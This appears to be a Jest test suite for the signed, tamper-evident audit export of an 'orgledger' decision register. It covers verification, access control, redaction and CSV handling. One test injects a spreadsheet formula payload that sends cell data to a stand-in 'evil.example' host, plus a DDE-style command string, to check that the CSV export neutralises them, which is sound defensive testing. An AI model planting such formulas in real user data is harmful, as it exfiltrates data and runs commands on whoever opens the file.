import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import { parseCsv, sha256OfBytes, signExportSeal, type ExportSeal } from '../src/audit/export-seal';
import { verifyExport } from '../src/audit/export-verify';
import { main as cli } from '../src/cli/orgledger';
import { DEMO_PASSWORD, startHarness, type Harness } from './support/harness';

let h: Harness;
let northshire: string;
let auditor: string;
let publicKey: string;
let files: string;

beforeAll(async () => {
  h = await startHarness();
  northshire = h.demo.authorities.northshire;
  auditor = await h.signIn('auditor@meridian.example');
  publicKey = (await request(h.app.getHttpServer()).get('/.well-known/orgledger-audit-key')).text;
  files = mkdtempSync(join(tmpdir(), 'orgledger-export-'));
}, 60_000);
afterAll(async () => {
  rmSync(files, { recursive: true, force: true });
  await h.close();
});

const download = (token: string | null, authorityId: string, kind: string) => {
  const req = request(h.app.getHttpServer())
    .get(`/exports/authorities/${authorityId}/decisions.${kind}`)
    .buffer(true)
    .parse((res, cb) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (text += c));
      res.on('end', () => cb(null, text));
    });
  return token ? req.set('authorization', `Bearer ${token}`) : req;
};

// Changes one byte: a digit in the middle of the file becomes another digit.
const alterOneByte = (text: string, from: number): string => {
  const at = text.slice(from).search(/[0-9]/) + from;
  return text.slice(0, at) + String((Number(text[at]) + 1) % 10) + text.slice(at + 1);
};

const runCli = async (args: string[]) => {
  const out: string[] = [];
  const log = jest.spyOn(console, 'log').mockImplementation((...a) => void out.push(a.join(' ')));
  try {
    return { code: await cli(args), out: out.join('\n') };
  } finally {
    log.mockRestore();
  }
};

describe('export of the decision register', () => {
  it.each(['jsonl', 'csv'])('gives an auditor a sealed %s register that verifies offline, and rejects it altered by one byte', async (kind) => {
    const res = await download(auditor, northshire, kind);
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="decisions-northshire-county-council.${kind}"`);
    const text = res.body as string;
    const verdict = verifyExport(text, publicKey);
    expect(verdict).toMatchObject({ ok: true, checkpoint: { sequence: expect.any(Number) } });
    expect(verdict.events).toBeGreaterThan(100);
    expect(text).toContain('Service director of Highways (invited by Priya Shah) countered the Highways deal');

    const good = join(files, `good.${kind}`);
    const bad = join(files, `bad.${kind}`);
    const key = join(files, 'audit-key.pem');
    writeFileSync(good, text);
    writeFileSync(key, publicKey);
    for (const from of [Math.floor(text.length / 2), text.length - 400]) {
      const altered = alterOneByte(text, from);
      expect(Buffer.byteLength(altered)).toBe(Buffer.byteLength(text));
      expect(verifyExport(altered, publicKey).ok).toBe(false);
    }
    writeFileSync(bad, alterOneByte(text, Math.floor(text.length / 2)));

    const ok = await runCli(['verify-export', good, '--public-key', key]);
    expect(ok.code).toBe(0);
    expect(ok.out).toContain('verify-export: ');
    const rejected = await runCli(['verify-export', bad, '--public-key', key]);
    expect(rejected.code).toBe(2);
    expect(rejected.out).toContain('REJECTED');
  });

  it("rejects an export checked with another server's key, and a register with an event taken out", async () => {
    const text = (await download(auditor, northshire, 'jsonl')).body as string;
    const { generateKeyPairSync } = await import('node:crypto');
    const other = generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'pem' }) as string;
    expect(verifyExport(text, other)).toMatchObject({ ok: false, problem: 'the seal signature does not verify with this public key' });
    const lines = text.split('\n');
    expect(verifyExport([...lines.slice(0, 5), ...lines.slice(6)].join('\n'), publicKey).ok).toBe(false);
  });

  it('records the download in the access log and answers others as for an unknown authority', async () => {
    const admin = await h.signIn('admin@meridian.example');
    const log = (await h.gql(admin, '{ auditAccessLog(first: 5) { items { operation authorityId } } }')).body.data!.auditAccessLog.items;
    expect(log[0]).toMatchObject({ operation: 'export decisions.jsonl', authorityId: northshire });
    expect((await download(null, northshire, 'csv')).status).toBe(401);
    expect((await download(await h.signIn('hr@northshire.example'), northshire, 'csv')).status).toBe(403);
    const unknown = await download(auditor, '00000000-0000-4000-8000-000000000000', 'csv');
    const notGranted = await download(auditor, h.demo.authorities.eastbrook, 'csv');
    const otherTenant = await download(await h.signIn(h.other.adminEmail), northshire, 'csv');
    for (const res of [unknown, notGranted, otherTenant]) expect(res.status).toBe(404);
    expect((await download(auditor, northshire, 'xml')).status).toBe(404);
  });

  describe("another authority's events in a shared stream", () => {
    const SECRET = { id: 'eastbrook-local-pay-2026', source: 'Eastbrook confidential pay policy', pence: 9_817_337 };
    let eastbrook: string;
    beforeAll(async () => {
      eastbrook = h.demo.authorities.eastbrook;
      // the tenant's one reference-data stream now holds Eastbrook's pay point beside Northshire's LGPS rate
      const set = await h.gql(await h.signIn('admin@meridian.example'), 'mutation($i: SetLocalPayPointsInput!) { setLocalPayPoints(input: $i) { id } }', {
        i: {
          authorityId: eastbrook,
          id: SECRET.id,
          effectiveFrom: '2026-04-01',
          source: SECRET.source,
          status: 'CONFIRMED',
          points: [{ scp: 60, pence: SECRET.pence }],
        },
      });
      expect(set.body.errors).toBeUndefined();
    });

    const leaks = (text: string) => [eastbrook, SECRET.id, SECRET.source, String(SECRET.pence), 'LocalPayPointsSet'].filter((s) => text.includes(s));

    it.each(['jsonl', 'csv'])("are redacted rows in a Northshire auditor's %s export, which still verifies offline", async (kind) => {
      const text = (await download(auditor, northshire, kind)).body as string;
      expect(leaks(text)).toEqual([]);
      const verdict = verifyExport(text, publicKey);
      expect(verdict).toMatchObject({ ok: true });
      expect(verdict.redacted).toBeGreaterThan(0);
      expect(text).toContain('LgpsEmployerRateSet'); // Northshire's own row of the same stream is shown
    });

    it('are not in the decision history either', async () => {
      const res = await h.gql(auditor, 'query($f: DecisionHistoryFilter!) { decisionHistory(filter: $f, first: 200) { total items { raw sentence } } }', {
        f: { authorityId: northshire, context: 'referenceData' },
      });
      const items = res.body.data!.decisionHistory.items as { raw: string; sentence: string }[];
      expect(items.length).toBeGreaterThan(0);
      expect(leaks(items.map((i) => i.raw + i.sentence).join('\n'))).toEqual([]);
    });

    it("rejects a one-byte change to a redacted row's hash, even with the file sealed again", async () => {
      const text = (await download(auditor, northshire, 'jsonl')).body as string;
      const lines = text.split('\n');
      const at = lines.findIndex((l) => l.includes('"redacted":true'));
      const row = JSON.parse(lines[at]) as { hash: string };
      const altered = [...lines];
      altered[at] = lines[at].replace(row.hash, row.hash.slice(0, 10) + (row.hash[10] === '0' ? '1' : '0') + row.hash.slice(11));
      expect(Buffer.byteLength(altered[at])).toBe(Buffer.byteLength(lines[at]));
      expect(verifyExport(altered.join('\n'), publicKey)).toMatchObject({ ok: false, problem: expect.stringContaining('digest mismatch') });

      // with the server's own key the seal can be made again: the chain through the redacted row still breaks
      const body = altered.slice(0, -2).join('\n') + '\n';
      const { kind: _kind, signature: _signature, ...seal } = JSON.parse(altered.at(-2)!) as ExportSeal & { kind: string };
      const resealed =
        body + JSON.stringify({ kind: 'seal', ...signExportSeal({ ...seal, exportDigest: sha256OfBytes(body) }, h.ctx.config.auditKey.privateKey) }) + '\n';
      expect(verifyExport(resealed, publicKey)).toMatchObject({
        ok: false,
        problem: expect.stringMatching(/prevHash does not link|does not end where the checkpoint sealed it/),
      });
    });
  });

  it("neutralises a service director's formula in the CSV before it is sealed, and the export still verifies", async () => {
    const FORMULA = '=HYPERLINK("https://evil.example/?"&C2,"Details")';
    const director = await h.signIn('director.highways@northshire.example');
    const programmeId = (await h.gql(auditor, '{ authorities { id programmes { id } } }')).body.data!.authorities.find(
      (a: { id: string }) => a.id === northshire,
    ).programmes[0].id;
    const deal = (
      await h.gql(
        director,
        'query($p: ID!) { fteDeals(programmeId: $p) { id version terms { sourcePosts { postId fte } budget { financialYear pence } effectiveDate linkedChange rationale } } }',
        { p: programmeId },
      )
    ).body.data!.fteDeals[0];
    const { sourcePosts, budget, effectiveDate, linkedChange } = deal.terms;
    const amended = await h.gql(director, 'mutation($i: DealOfferInput!) { proposeFteDealAmendment(input: $i) { id } }', {
      i: { dealId: deal.id, reason: FORMULA, terms: { sourcePosts, budget, effectiveDate, linkedChange, rationale: '@SUM(1+1)*cmd|calc' } },
    });
    expect(amended.body.errors).toBeUndefined();

    const text = (await download(auditor, northshire, 'csv')).body as string;
    const rows = parseCsv(text);
    const cells = rows.flat();
    expect(cells).toContain(`'${FORMULA}`);
    // no cell a spreadsheet would run: every one starting = + - @ tab or CR is a plain number
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
    expect(verifyExport(text, publicKey)).toMatchObject({ ok: true });
    // the JSON register keeps the reason as given, for a program to read
    expect((await download(auditor, northshire, 'jsonl')).body as string).toContain(JSON.stringify(FORMULA).slice(1, -1));
  });

  it('answers a client error, never a fault, to an export asked for in as-at mode', async () => {
    const res = await download(auditor, northshire, 'csv').set('x-orgledger-as-of', '2000-01-01T00:00:00Z');
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
  });

  // Last: signing out ends every session of the account, as the GraphQL guard already knew.
  it('refuses a token ended by sign-out, as GraphQL does', async () => {
    const fresh = await h.gql(null, 'mutation($i: SignInInput!) { signIn(input: $i) { token } }', {
      i: { email: 'admin@meridian.example', password: DEMO_PASSWORD },
    });
    const token = fresh.body.data!.signIn.token as string;
    expect((await download(token, northshire, 'csv')).status).toBe(200);
    expect((await h.gql(token, 'mutation { signOut }')).body.data).toEqual({ signOut: true });
    expect((await download(token, northshire, 'csv')).status).toBe(401);
  });
});
